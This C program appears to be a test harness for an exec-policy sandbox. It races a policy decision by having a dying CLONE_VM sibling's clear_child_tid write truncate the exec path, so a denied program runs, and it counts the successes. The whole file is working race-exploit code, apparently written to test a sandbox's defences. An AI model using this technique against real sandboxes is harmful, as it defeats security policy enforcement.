// An exec decided with the sandbox frozen, raced by a write the kernel makes itself: a frozen task
// that a fatal signal kills still clears its clear_child_tid word on the way out.
//
// H execs DIR/okZZZZ (a #! script: decided on the freezer path). T shares H's memory (CLONE_VM,
// a process of its own), points its clear_child_tid at "ZZZZ" and arms a timer whose SIGALRM
// kills it. Dying between the decision's read and the kernel's copy turns the path into DIR/ok,
// a program that exits 42 and that the policy denies.
// With "execveat" last, H runs execveat(DIR's fd, "okZZZZ"), which the kernel names /dev/fd/N/okZZZZ.
// usage: exit_write_race DIR TRIES MIN_US MAX_US [execveat]; prints tries= ran_denied= script= refused= killed=
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/wait.h>
#include <unistd.h>

static char path[4096];
static size_t zeroed_at;
static volatile int armed;
static long delay_us;
static char stack[65536];

static int dying_sibling(void *unused) {
    (void)unused;
    syscall(SYS_set_tid_address, path + zeroed_at);
    struct itimerval timer = {{0, 0}, {delay_us / 1000000, delay_us % 1000000}};
    setitimer(ITIMER_REAL, &timer, NULL);
    armed = 1;
    for (;;)
        pause();
}

int main(int argc, char **argv) {
    if (argc != 5 && argc != 6)
        return 2;
    int at_dir = argc == 6 ? open(argv[1], O_RDONLY | O_DIRECTORY) : -1;
    int tries = atoi(argv[2]);
    long low = atol(argv[3]), high = atol(argv[4]);
    int ran_denied = 0, script = 0, refused = 0, killed = 0;
    snprintf(path, sizeof path, at_dir >= 0 ? "okZZZZ" : "%s/okZZZZ", argv[1]);
    zeroed_at = strlen(path) - 4;
    for (int i = 0; i < tries; i++) {
        delay_us = low + (long)i * (high - low) / tries;
        pid_t holder = fork();
        if (holder == 0) {
            armed = 0;
            if (clone(dying_sibling, stack + sizeof stack, CLONE_VM | SIGCHLD, NULL) < 0)
                _exit(4);
            while (!armed)
                ;
            char *args[] = {path, NULL};
            if (at_dir >= 0)
                syscall(SYS_execveat, at_dir, path, args, environ, 0);
            else
                execv(path, args);
            _exit(3);
        }
        int status;
        waitpid(holder, &status, 0);
        while (waitpid(-1, NULL, WNOHANG) > 0)
            ;
        if (WIFSIGNALED(status))
            killed++;
        else if (WEXITSTATUS(status) == 42)
            ran_denied++;
        else if (WEXITSTATUS(status) == 0)
            script++;
        else
            refused++;
    }
    printf("tries=%d ran_denied=%d script=%d refused=%d killed=%d\n", tries, ran_denied, script, refused, killed);
    return 0;
}
